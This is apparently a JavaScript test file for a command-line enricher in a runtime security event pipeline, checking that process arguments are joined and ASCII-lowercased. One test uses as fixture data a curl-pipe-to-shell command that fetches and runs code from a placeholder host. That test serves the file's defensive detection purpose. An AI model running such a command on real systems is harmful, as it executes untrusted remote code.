import assert from 'node:assert/strict';
import { test } from 'node:test';
import { emptyRuntimeEvent } from '../../normalize/runtime/builder.js';
import { commandLineEnricher, lowerAscii } from './index.js';

test('argv is joined by spaces and lower-cased like CEL lowerAscii', () => {
  const e = emptyRuntimeEvent('process_exec', 'tracee', 'c1');
  e.process.args = ['sh', '-c', 'CURL -s http://X.example | SH'];
  e.process.executablePath = '/usr/bin/dash';
  commandLineEnricher().enrich(e);
  assert.equal(e.process.executableName, 'dash');
  assert.equal(e.process.commandLine, 'sh -c CURL -s http://X.example | SH');
  assert.equal(e.process.commandLineLower, 'sh -c curl -s http://x.example | sh');
});

test('only ASCII letters change case', () => {
  assert.equal(lowerAscii('ÉCOLE Straße İX'), 'École straße İx');
  assert.equal(lowerAscii('ABC'), 'abc');
});

test('no argv: empty command line', () => {
  const e = emptyRuntimeEvent('dns_request', 'tracee', 'c1');
  commandLineEnricher().enrich(e);
  assert.equal(e.process.commandLine, '');
  assert.equal(e.process.commandLineLower, '');
});
